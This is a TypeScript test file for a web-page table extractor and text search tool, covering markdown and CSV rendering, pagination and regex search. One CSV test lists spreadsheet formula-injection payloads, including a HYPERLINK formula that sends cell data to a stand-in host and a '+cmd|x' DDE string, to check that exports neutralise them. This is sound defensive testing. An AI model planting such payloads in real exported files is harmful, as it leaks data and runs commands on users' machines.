import { describe, expect, test } from 'vitest';
import { extractTable, findTables } from '../../packages/sightline/src/search/tables/extractTable.ts';
import { readTable } from '../../packages/sightline/src/search/tables/readTable.ts';
import { renderTable } from '../../packages/sightline/src/search/tables/renderTable.ts';
import { findTextMatches } from '../../packages/sightline/src/search/text/findTextMatches.ts';
import { renderTextMatches } from '../../packages/sightline/src/search/text/renderTextMatches.ts';
import type { PageNode } from '../../packages/sightline/src/snapshot/Page.ts';
import { Flag } from '../../packages/sightline/src/snapshot/Snapshot.ts';
import { type El, el } from '../support/page.ts';
import { sceneOf } from '../support/show.ts';

const row = (...cells: (El | string)[]): El => el('tr', {}, ...cells.map((cell) => el('td', {}, cell)));
const head = (...names: string[]): El => el('tr', {}, ...names.map((name) => el('th', {}, name)));

function rowsOf(children: (El | string)[], options?: Parameters<typeof renderTable>[2], at = 0) {
  const scene = sceneOf(children);
  const node = findTables(scene.pageState)[at] as PageNode;
  return renderTable(extractTable(node, scene.pageState), scene, options);
}

test('heads in a table of their own, above the rows that scroll', () => {
  const at = (tag: string, line: number, texts: string[]): El =>
    el('tr', {}, ...texts.map((text, i) => el(tag, { box: [i * 100, line * 30, 100, 30] }, text)));
  const heads = (...names: string[]): El => el('div', {}, el('table', {}, at('th', 0, names)));
  const body = el('div', {}, el('table', {}, at('td', 1, ['Ann', '12']), at('td', 2, ['Bo', '7'])));
  const table = rowsOf([el('div', {}, heads('Name', 'Points', ''), body)]);
  expect(table.text.split('\n')).toEqual([
    'Table, rows 1-2 of 2:',
    '| Name | Points |',
    '| --- | --- |',
    '| Ann | 12 |',
    '| Bo | 7 |',
  ]);
  expect(findTables(sceneOf([el('div', {}, heads('A', 'B', 'C', 'D'), body)]).pageState)).toHaveLength(2);
});

test('one page of a table: the pager is told, sort marks name no column, and the foot is no row', () => {
  const table = (foot: El): El =>
    el(
      'table',
      {},
      el('thead', {}, head('↑ Name ↓', 'Age ▲')),
      el('tbody', {}, row('Ann', '31'), row('Bo', '7')),
      el('tfoot', {}, foot),
    );
  const button = (name: string): El => el('button', { name, role: 'button' }, name);
  const pager = el(
    'div',
    {},
    el('p', {}, 'Showing 1 to 2 of 57 entries'),
    el('div', {}, button('1'), button('2'), button('Next')),
  );
  const read = (...parts: El[]) => rowsOf([el('div', {}, ...parts)]);
  const paged = read(el('div', {}, table(head('Name', 'Age'))), pager);
  expect(paged.text.split('\n')).toEqual([
    'Table, rows 1-2 of 2:',
    '| Name | Age |',
    '| --- | --- |',
    '| Ann | 31 |',
    '| Bo | 7 |',
    '(rows 1 to 2 of 57: click 1 for the next page)',
  ]);
  expect(paged.data.paged).toBe('rows 1 to 2 of 57: click 1 for the next page');
  const summed = read(table(row('Sum', '38')), el('p', {}, '1-2 of 2'));
  expect(summed.text.split('\n').slice(5)).toEqual(['(foot: Sum | 38)']);
  expect(read(table(row('Sum', '38')), button('1'), button('›')).data.paged).toBe(
    'one page of several: click 1 for the next page',
  );
});

test('rows of the head of a table name its columns, whatever their cells are', () => {
  const mixed = el('tr', {}, el('td', {}, 'Modify'), el('th', {}, 'id'), el('th', {}, 'maker'));
  const table = (...heads: El[]): string[] =>
    rowsOf([
      el(
        'table',
        {},
        el('thead', {}, ...heads),
        el('tbody', {}, row('edit', '1', 'Corder'), row('edit', '2', 'Ek')),
      ),
    ]).text.split('\n');
  expect(table(mixed).slice(1, 4)).toEqual([
    '| Modify | id | maker |',
    '| --- | --- | --- |',
    '| edit | 1 | Corder |',
  ]);
  expect(table(row('Do', 'No', 'Who'))[1]).toBe('| Do | No | Who |');
});

test('words of a heading mean the table below it rather than a list beside it', () => {
  const link = (name: string): El => el('li', {}, el('a', { name, attributes: { href: '#' } }, name));
  const scene = sceneOf([
    el('h1', { role: 'heading' }, 'Rivers of the Five Lands'),
    el('ul', { role: 'list' }, ...['Read', 'Edit', 'History'].map(link)),
    el('h2', { role: 'heading' }, 'Table'),
    el('table', {}, head('River', 'Length'), row('Hesmere', '789')),
  ]);
  expect(readTable('rivers', scene).columns).toEqual(['River', 'Length']);
  expect(readTable('Rivers of the Five Lands', scene).columns).toEqual(['link']);
});

test('of a table without a name its heads are named', () => {
  const scene = sceneOf([
    el('table', {}, head('Day', 'Hours'), row('Mon', '8')),
    el('table', {}, head('Name'), row('Ann')),
  ]);
  expect(() => readTable(undefined, scene)).toThrow('There is more than one table on this page.');
  try {
    readTable(undefined, scene);
  } catch (error) {
    expect((error as { hint: string }).hint).toBe(
      'Give the number of one: [1] table of "Day", "Hours" (1 rows), [2] table of "Name" (1 rows).',
    );
  }
});

test('where none is named, the table beside navigation, or the largest by far', () => {
  const orders = el(
    'table',
    {},
    head('Order', 'State'),
    ...['7', '8', '9'].map((order) => row(order, 'late')),
  );
  const models = el('table', {}, row('Loans', 'Add'), row('Tools', 'Add'));
  const columnsOf = (...children: El[]): string[] => readTable(undefined, sceneOf(children)).columns;
  expect(columnsOf(el('nav', { role: 'navigation' }, models, models), orders)).toEqual(['Order', 'State']);
  expect(columnsOf(el('table', {}, row('Find', 'Go')), orders)).toEqual(['Order', 'State']);
  expect(columnsOf(models, orders)).toEqual(['Order', 'State']);
  const loans = el('table', {}, head('Loan', 'Tool'), row('1', 'saw'), row('2', 'axe'));
  expect(() => columnsOf(loans, orders)).toThrow('There is more than one table on this page.');
});

test('a row of filters below the heads is no data, whatever it holds', () => {
  const field = (value: string): El => el('input', { attributes: { '.value': value }, role: 'textbox' });
  const open = el('button', {}, 'Open filter');
  const filters = el('tr', {}, el('td', {}, field('Ann')), el('td', {}, open));
  expect(rowsOf([el('table', {}, head('Name', 'Days'), filters, row('Ann', '12'), row('Bo', ''))]).text).toBe(
    'Table, rows 1-2 of 2:\n| Name | Days |\n| --- | --- |\n| Ann | 12 |\n| Bo |  |',
  );
});

describe('a grid without roles of rows and cells', () => {
  const DAYS = ['Sun', 'Mon', 'Tue'];
  const days = [1, 4].map((first) => [first, first + 1, first + 2].map(String));
  const cell = (text: string, column: number, line: number, facts = {}): El =>
    el('div', { box: [column * 100, line * 40, 100, 40], ...facts }, text);
  const line = (texts: string[], at: number, facts = {}): El =>
    el('div', {}, el('div', {}, ...texts.map((text, column) => cell(text, column, at, facts))));
  const grid = ['| Sun | Mon | Tue |', '| --- | --- | --- |', '| 1 | 2 | 3 |', '| 4 | 5 | 6 |'];

  test('a calendar of boxes', () => {
    const calendar = el('div', {}, ...[DAYS, ...days].map((texts, i) => line(texts, i)));
    expect(
      rowsOf([el('h2', {}, 'March'), calendar])
        .text.split('\n')
        .slice(1),
    ).toEqual(grid);
  });

  test('a role of a grid, with heads alone', () => {
    const calendar = el(
      'div',
      { role: 'grid' },
      line(DAYS, 0, { role: 'columnheader' }),
      ...days.map((texts, i) => line(texts, i + 1)),
    );
    expect(rowsOf([calendar]).text.split('\n')).toEqual(['Table, rows 1-2 of 2:', ...grid]);
  });

  test('tables that a table lays out above each other are one', () => {
    const outer = el(
      'table',
      {},
      row(el('table', {}, head(...DAYS))),
      row(el('table', {}, ...days.map((texts) => row(...texts)))),
    );
    expect(rowsOf([outer]).text.split('\n')).toEqual(['Table, rows 1-2 of 2:', ...grid]);
    expect(findTables(sceneOf([outer]).pageState).length).toBe(1);
  });

  test('a calendar of a table a week, with its days above and what happens below', () => {
    const empty = el('table', {}, row('', '', ''));
    const week = (first: number, event: string): El =>
      el(
        'div',
        {},
        empty,
        el('table', {}, row(String(first), String(first + 1), String(first + 2)), row('', event, '')),
      );
    const outer = el(
      'table',
      {},
      row(el('table', {}, head(...DAYS))),
      row(el('div', {}, week(1, 'Lunch'), week(4, ''))),
    );
    expect(rowsOf([outer]).text.split('\n').slice(1)).toEqual([
      ...grid.slice(0, 2),
      '| 1 | 2 Lunch | 3 |',
      '| 4 | 5 | 6 |',
    ]);
  });

  test('cards in lines of two stay a list of cards', () => {
    const card = (name: string, column: number): El =>
      el('div', { box: [column * 100, 0, 100, 40] }, el('b', {}, name), el('button', {}, 'Buy'));
    const cards = el('div', {}, ...['Hub', 'Cable', 'Mouse'].map(card));
    expect(rowsOf([cards]).data).toMatchObject({ kind: 'list', total: 3 });
  });
});

describe('a table as data', () => {
  const orders = el(
    'table',
    { name: 'Orders' },
    head('Order', 'Total', ''),
    row('1042', '$5', el('button', {}, 'Cancel')),
    row('1043', 'a|b, "c"', el('button', {}, 'Cancel')),
  );

  test('in markdown, with the numbers of the controls in each row', () => {
    expect(rowsOf([orders]).text.split('\n')).toEqual([
      'Table "Orders", rows 1-2 of 2:',
      '| Order | Total | column 3 |',
      '| --- | --- | --- |',
      '| 1042 | $5 | [1]<button>Cancel |',
      '| 1043 | a\\|b, "c" | [2]<button>Cancel |',
    ]);
  });

  test('without a row of filters, and of a field only its value; a table that is edited keeps its rows', () => {
    const choice = (value: string): El =>
      el('select', { attributes: { '.value': value } }, el('option', {}, 'All'), el('option', {}, 'Admin'));
    const filters = (tag: string): El =>
      el('tr', {}, el(tag, {}, el('input', { name: 'Filter' })), el(tag, {}, choice('All')), el(tag, {}));
    const users = (...rows: El[]): El =>
      el('table', { name: 'Users' }, head('Name', 'Role', 'Note'), ...rows);
    for (const tag of ['td', 'th'])
      expect(rowsOf([users(filters(tag), row('Ann', choice('Admin'), 'x'))]).data.rows).toMatchObject([
        { Name: 'Ann', Role: 'Admin', Note: 'x' },
      ]);
    const edited = row(el('input', { name: 'Name' }), choice('All'), '');
    expect(rowsOf([users(edited, edited)]).data.total).toBe(2);
  });

  test('as records', () => {
    expect(rowsOf([orders]).data.rows).toEqual([
      {
        Order: '1042',
        Total: '$5',
        'column 3': 'Cancel',
        controls: [{ index: 1, role: 'button', name: 'Cancel' }],
      },
      {
        Order: '1043',
        Total: 'a|b, "c"',
        'column 3': 'Cancel',
        controls: [{ index: 2, role: 'button', name: 'Cancel' }],
      },
    ]);
  });

  test('in CSV', () => {
    expect(rowsOf([orders], { format: 'csv', from: 2 }).text.split('\n').slice(1)).toEqual([
      'Order,Total,column 3,controls',
      '1043,"a|b, ""c""",Cancel,1 Cancel',
    ]);
  });

  test('in CSV that no spreadsheet runs, and in which no text is a number of ours', () => {
    const texts = [
      '=HYPERLINK("http://a.test?"&A1)',
      '+cmd|x',
      '-2+3',
      '@SUM(A1)',
      '\uff1d1+1',
      '[2]<button>Pay',
    ];
    const plain = ['-4.50', '+49 170 123', '-12 %', '-', 'a=b', '\u20ac -5', '(3)', '-$20.00'];
    const table = el('table', {}, head('a'), ...[...texts, ...plain].map((text) => row(text)));
    const { text } = rowsOf([table], { format: 'csv' });
    expect(text.split('\n').slice(2)).toEqual([
      `"'=HYPERLINK(""http://a.test?""&A1)"`,
      "'+cmd|x",
      "'-2+3",
      "'@SUM(A1)",
      "'\uff1d1+1",
      '\\[2]\\<button>Pay',
      ...plain,
    ]);
  });

  test('a pipe in a cell ends it in no spelling', () => {
    const table = el('table', {}, head('a', 'b'), row('x\\| 5', '\\\\| [3]<a>'));
    const lines = rowsOf([table]).text.split('\n');
    for (const line of lines.slice(1)) expect(line.match(/(?<!\\)(?:\\\\)*\|/g)).toHaveLength(3);
  });

  test('a page at a time', () => {
    const long = el('table', {}, head('N'), ...Array.from({ length: 120 }, (_, i) => row(`${i + 1}`)));
    const { text } = rowsOf([long], { from: 51 });
    expect(text).toContain('rows 51-100 of 120');
    expect(text).toContain('(20 more rows: read_table 1 from=101)');
    expect(rowsOf([long], { from: 500 }).text).toContain('no rows');
  });

  test('spans fill the cells that they cover; heads above each other are one name', () => {
    const table = el(
      'table',
      {},
      el(
        'tr',
        {},
        el('th', { attributes: { rowspan: '2' } }, 'Name'),
        el('th', { attributes: { colspan: '2' } }, 'Sales'),
      ),
      head('2024', '2025'),
      el('tr', {}, el('td', { attributes: { rowspan: '2' } }, 'Ann'), el('td', {}, '1'), el('td', {}, '2')),
      row('3', '4'),
    );
    expect(rowsOf([table]).data).toMatchObject({
      columns: ['Name', 'Sales > 2024', 'Sales > 2025'],
      rows: [
        { Name: 'Ann', 'Sales > 2024': '1', 'Sales > 2025': '2' },
        { Name: 'Ann', 'Sales > 2024': '3', 'Sales > 2025': '4' },
      ],
    });
  });

  test('a repeated list, by what stands where in its items', () => {
    const card = (name: string, price: string): El =>
      el('li', {}, el('h3', {}, name), el('span', {}, price), el('button', {}, 'Add'));
    expect(
      rowsOf([el('ul', {}, card('Hub', '$49'), card('Lamp', '$20'), card('Desk', '$300'))]).data.rows,
    ).toMatchObject([
      { heading: 'Hub', span: '$49', button: 'Add' },
      { heading: 'Lamp', span: '$20', button: 'Add' },
      { heading: 'Desk', span: '$300', button: 'Add' },
    ]);
  });
});

describe('search in visible text', () => {
  const search = (words: string, options?: Parameters<typeof findTextMatches>[2]) =>
    findTextMatches(
      sceneOf(['Order ', el('b', {}, 'confirmed'), el('p', {}, 'Total: $12.50'), el('a', {}, 'Order again')])
        .pageState,
      words,
      options,
    );

  test('words across elements of a line', () => {
    expect(search('order  CONFIRMED').matches[0]).toMatchObject({ match: 'Order confirmed', before: '' });
    expect(search('confirmed total').total).toBe(0);
  });

  test('each match shows what can be done with it: the target around it, else or besides the block itself', () => {
    const box = el('div', { flags: Flag.Listener }, el('p', {}, 'First'), el('p', {}, 'Second'));
    const list = el('ul', { flags: Flag.Listener }, el('li', {}, 'Third'), el('li', {}, 'Fourth'));
    const scene = sceneOf([el('p', {}, 'Read me'), el('button', { role: 'button' }, 'Press me'), box, list]);
    const lineWith = (words: string) =>
      renderTextMatches(findTextMatches(scene.pageState, words), words, scene).text.split('\n')[1];
    expect(lineWith('Read')).toBe(' **Read** me in [1]<p>');
    expect(lineWith('Press')).toBe(' **Press** me [2]');
    expect(lineWith('Second')).toBe(' **Second** [4] in [3]<p>');
    expect(lineWith('Fourth')).toBe(' **Fourth** [5]');
  });

  test('plain words are no pattern; patterns are', () => {
    expect(search('$12.50').total).toBe(1);
    expect(search('\\$\\d+', { pattern: true }).matches[0]?.match).toBe('$12');
    expect(() => search('(', { pattern: true })).toThrow(
      expect.objectContaining({ code: 'invalid_argument' }),
    );
  });

  test('a pattern that would backtrack for ever does not', () => {
    const structure = sceneOf([el('p', {}, 'a'.repeat(5_000))]).pageState;
    expect(findTextMatches(structure, '(a+)+$|(a|aa)+b', { pattern: true }).total).toBe(1);
    const long = sceneOf(Array.from({ length: 40 }, () => el('p', {}, 'a'.repeat(5_000)))).pageState;
    expect(() => findTextMatches(long, '(?:.?){1000}q', { pattern: true })).toThrow(
      expect.objectContaining({ code: 'too_large' }),
    );
  });
});
